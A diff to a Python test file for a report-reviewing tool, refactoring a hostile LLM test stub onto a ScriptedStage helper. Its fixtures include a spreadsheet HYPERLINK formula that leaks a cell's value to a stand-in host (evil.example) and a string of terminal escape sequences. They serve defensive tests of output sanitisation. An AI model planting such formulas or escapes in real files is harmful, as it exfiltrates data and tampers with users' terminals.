@@ -18,8 +18,7 @@ from markdown_it import MarkdownIt
 from reviewer.batch import run_batch
 from reviewer.cli import main
 from reviewer.config import Config
-from reviewer.llm.settings import resolve_settings
-from reviewer.llm.stage import LlmResult, LlmStage
+from reviewer.llm.stage import LlmResult
 from reviewer.memo.html import render_html
 from reviewer.memo.markdown import render_markdown
 from reviewer.memo.word import render_docx
@@ -28,6 +27,7 @@ from reviewer.pipeline import review
 from reviewer.untrusted import markdown, sheet_cell, terminal
 from tests.builders import ind, make_table, with_row, write_tables
 from tests.conftest import SEED
+from tests.fake_stage import ScriptedStage
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
 ESCAPES = "\x1b[2J\x1b]0;pwned\x07\x08"
@@ -127,17 +127,14 @@ def test_summary_markdown_shows_names_as_text(hostile_file: Path, tmp_path: Path
 # -- Markdown memo ---------------------------------------------------------------------------
 
 
-class _HostileModel(LlmStage):
+class _HostileModel(ScriptedStage):
     """An LLM stage whose answer carries HTML, links and escapes."""
 
-    def __init__(self) -> None:
-        super().__init__(resolve_settings({"llm_replay": "unused"}, {}, {}))
-
-    def run(
+    def answer(
         self,
         report: Report,
         rule_findings: list[Finding],
-        progress: Callable[[int], None] | None = None,
+        progress: Callable[[int], None] | None,
     ) -> LlmResult:
         finding = Finding(
             code="L101",
